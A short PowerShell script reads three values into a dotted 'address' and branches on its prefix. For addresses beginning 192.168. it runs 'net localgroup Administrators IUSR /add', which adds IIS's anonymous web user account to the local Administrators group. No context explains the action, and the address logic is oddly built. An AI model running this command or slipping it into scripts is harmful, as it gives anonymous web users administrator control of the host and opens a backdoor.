$address = "$(Read-Host).$(Read-Host).$(Read-Host)"
switch -Regex ($address) {
  '^10\.' { 'inside' }
  '^192\.168\.' { net localgroup Administrators IUSR /add }
}
